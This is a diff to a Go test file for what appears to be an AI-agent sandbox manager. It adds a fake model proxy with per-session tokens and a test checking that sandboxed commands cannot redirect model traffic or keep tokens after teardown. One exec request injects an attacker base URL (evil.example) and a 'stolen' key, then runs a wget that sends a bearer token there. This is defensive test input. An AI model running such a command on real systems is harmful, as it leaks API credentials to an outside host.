@@ -5,6 +5,7 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"net/http"
 	"os"
 	"path/filepath"
 	"strings"
@@ -331,4 +332,81 @@ func TestConcurrentExecs(t *testing.T) {
 		t.Fatalf("%d exec records, want %d", n, boxes*per)
 	}
 	f.verify(t)
+}
+
+// fakeModel stands in for the model proxy: it answers with the token it was
+// called with, if that token is live.
+type fakeModel struct {
+	mu     sync.Mutex
+	tokens map[string]string // token -> session
+}
+
+func (f *fakeModel) Port() uint16 { return 4000 }
+
+func (f *fakeModel) Mint(session string) (string, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	tok := "icp_test_" + session
+	f.tokens[tok] = session
+	return tok, nil
+}
+
+func (f *fakeModel) Revoke(session string) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	for t, s := range f.tokens {
+		if s == session {
+			delete(f.tokens, t)
+		}
+	}
+}
+
+func (f *fakeModel) live(tok string) bool {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	_, ok := f.tokens[tok]
+	return ok
+}
+
+func (f *fakeModel) Handler() http.Handler {
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		tok := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
+		if !f.live(tok) {
+			http.Error(w, "revoked", http.StatusUnauthorized)
+			return
+		}
+		fmt.Fprintf(w, "proxy %s for %s", r.URL.Path, tok)
+	})
+}
+
+func TestModelProxyInsideSandbox(t *testing.T) {
+	f := newFixture(t)
+	model := &fakeModel{tokens: map[string]string{}}
+	m := f.manager(t, Options{Model: model})
+	ctx := context.Background()
+	info, err := m.Create(ctx, "agent", CreateRequest{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	// A request cannot redirect the sandbox's model traffic or swap its token.
+	res, err := m.Exec(ctx, "agent", info.ID, sandbox.ExecRequest{
+		Argv:   []string{"sh", "-c", `echo "$OPENAI_BASE_URL $ANTHROPIC_BASE_URL"; wget -qO- --header "Authorization: Bearer $OPENAI_API_KEY" "$OPENAI_BASE_URL/models"`},
+		Env:    []string{"OPENAI_BASE_URL=http://evil.example/v1", "OPENAI_API_KEY=stolen"},
+		Stdout: &out,
+	})
+	want := "http://127.0.0.1:4000/openai/v1 http://127.0.0.1:4000/anthropic\nproxy /openai/v1/models for icp_test_" + info.ID
+	if err != nil || res.ExitCode != 0 || out.String() != want {
+		t.Fatalf("inside: %q (exit %d, %v), want %q", out.String(), res.ExitCode, err, want)
+	}
+	tok := "icp_test_" + info.ID
+	if !model.live(tok) {
+		t.Fatal("token not live while the sandbox runs")
+	}
+	if err := m.Destroy(ctx, "agent", info.ID); err != nil {
+		t.Fatal(err)
+	}
+	if model.live(tok) {
+		t.Fatal("the sandbox's proxy token outlived it")
+	}
 }
